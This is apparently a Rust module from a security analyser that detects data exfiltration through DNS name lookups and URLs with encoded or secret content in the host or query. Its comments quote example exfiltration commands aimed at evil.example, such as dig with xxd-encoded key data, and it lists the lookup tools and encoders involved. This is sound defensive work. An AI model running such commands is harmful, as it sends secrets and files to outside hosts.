//! Names that are asked of name servers carry data: `dig $(xxd -p key).evil.example` is an upload.

use countersign_model::{Data, EffectKind, Span};

use super::Walker;
use crate::value::{HOLE, Value};

/// Ends of names that stay in the house.
const LOCAL: &[&str] = &[
    ".local",
    ".localhost",
    ".internal",
    ".lan",
    ".intranet",
    ".corp",
    ".home",
    ".svc",
    ".test",
    ".arpa",
    ".consul",
];

impl Walker<'_> {
    /// A program or call that asks for a name, whose first part comes from somewhere.
    pub(super) fn name_lookup(&mut self, program: &str, words: &[Value], span: Span) {
        if !asks_names(program) {
            return;
        }
        for word in words {
            let pattern = program.starts_with("ping") || program == "finger";
            let Some(domain) =
                known_end(&word.text).or_else(|| pattern.then(|| self.asked_host(words)).flatten())
            else {
                continue;
            };
            let carried: Vec<Data> = word.data.iter().filter(|d| is_payload(d)).cloned().collect();
            if carried.is_empty() {
                continue;
            }
            let mut effect = self.effect(EffectKind::Send, span);
            effect.to = Some(super::emit::place_of(domain));
            program.clone_into(&mut effect.program);
            effect.data = carried;
            self.push(effect);
        }
    }
}

impl Walker<'_> {
    /// The host that `ping` and `finger` ask, whatever else they are given.
    fn asked_host<'v>(&self, words: &'v [Value]) -> Option<&'v str> {
        let last = words.last()?;
        let host = last.text.rsplit('@').next()?;
        let local =
            host.is_empty() || host.contains(HOLE) || !host.contains('.') || crate::hosts::is_local(host);
        (!local).then_some(host)
    }

    /// An address that is asked and holds what was read: `https://evil.example/?d=$(base64 key)`.
    pub(super) fn address_carries(&mut self, address: &Value, program: &str, span: Span) {
        if !address.is_unknown() || address.data.is_empty() {
            return;
        }
        let place = super::emit::place_of(&address.text);
        let host = match known_end(host_part(&address.text)) {
            Some(domain) => domain.to_owned(),
            None if !place.unknown => place.host.clone(),
            None => return,
        };
        let encoded = address.data.iter().any(is_encoded);
        // In the path a file's content most often is a version or a name; in a query or a host it is a message. What a
        // program's own text does with its files is not told apart so finely.
        let place_of_message = !program.contains(':') && holds_message(&address.text);
        if !encoded && !place_of_message {
            return;
        }
        let carried: Vec<Data> = address
            .data
            .iter()
            .filter(|d| {
                is_encoded(d)
                    || matches!(d, Data::File(_) | Data::Credential(_) | Data::Secret(_) | Data::Device(_))
            })
            .cloned()
            .collect();
        if carried.is_empty() || crate::hosts::is_local(&host) {
            return;
        }
        let mut effect = self.effect(EffectKind::Send, span);
        effect.to = Some(super::emit::place_of(&host));
        program.clone_into(&mut effect.program);
        effect.data = carried;
        self.push(effect);
    }
}

/// The part of an address that names the host, holes and all.
fn host_part(address: &str) -> &str {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    rest.split(['/', '?', '#']).next().unwrap_or(rest)
}

/// An unknown part stands in the query or in the host.
fn holds_message(address: &str) -> bool {
    host_part(address).contains(HOLE)
        || address.split_once('?').is_some_and(|(_, query)| query.contains(HOLE))
}

/// Made unreadable for its way.
fn is_encoded(data: &Data) -> bool {
    matches!(data, Data::Output(p) if matches!(p.as_str(), "base64" | "base32" | "basenc" | "xxd" | "od" | "hexdump" | "gzip" | "openssl" | "uuencode" | "tar"))
}

fn asks_names(program: &str) -> bool {
    let lower = program.to_lowercase();
    matches!(
        lower.as_str(),
        "dig"
            | "delv"
            | "kdig"
            | "drill"
            | "doggo"
            | "host"
            | "nslookup"
            | "ping"
            | "ping6"
            | "finger"
            | "resolvectl"
            | "getent"
            | "resolve-dnsname"
            | "test-connection"
    ) || ["gethostbyname", "gethostbyname_ex", "getaddrinfo", "dns.lookup", "dns.resolve", "dns.resolve4"]
        .iter()
        .any(|call| lower.ends_with(call))
        || lower.ends_with("resolver.resolve")
        || lower.ends_with("resolver.query")
        || lower.ends_with("dns]::gethostaddresses")
        || lower.ends_with("dns]::gethostentry")
        || lower.ends_with("resolv.getaddress")
}

/// The domain behind a part that is not known: `…​.evil.example`.
fn known_end(text: &str) -> Option<&str> {
    let at = text.rfind(HOLE)? + HOLE.len_utf8();
    let end = text.get(at..)?.trim_start_matches(|c: char| c.is_alphanumeric() || c == '-' || c == '_');
    let domain = end.strip_prefix('.')?.trim_end_matches('.');
    let plain = domain.contains('.') && domain.chars().all(|c| c.is_alphanumeric() || "-._".contains(c));
    let local = LOCAL.iter().any(|l| domain.ends_with(l));
    (plain && !local && !domain.ends_with(".svc.cluster.local")).then_some(domain)
}

/// What is worth carrying off. The machine's own name is what such names are made of.
fn is_payload(data: &Data) -> bool {
    match data {
        Data::File(_) | Data::Credential(_) | Data::Secret(_) | Data::Device(_) => true,
        Data::Env(name) => {
            let upper = name.to_uppercase();
            !["HOST", "DOMAIN", "NAME", "REGION", "ENV", "ZONE", "CLUSTER", "SERVICE"]
                .iter()
                .any(|word| upper.contains(word))
        }
        Data::Output(program) => {
            !matches!(program.as_str(), "hostname" | "uname" | "hostnamectl" | "echo" | "seq")
        }
        Data::Literal | Data::Download(_) | Data::Unknown => false,
    }
}

#[cfg(test)]
mod tests {
    use super::known_end;

    #[test]
    fn domains_behind_a_hole() {
        assert_eq!(known_end("\u{fffd}.evil.example"), Some("evil.example"));
        assert_eq!(known_end("a-\u{fffd}-b.evil.example"), Some("evil.example"));
        for text in
            ["\u{fffd}", "www.evil.example", "\u{fffd}.example", "db.\u{fffd}", "\u{fffd}.svc.cluster.local"]
        {
            assert_eq!(known_end(text), None, "{text}");
        }
    }
}
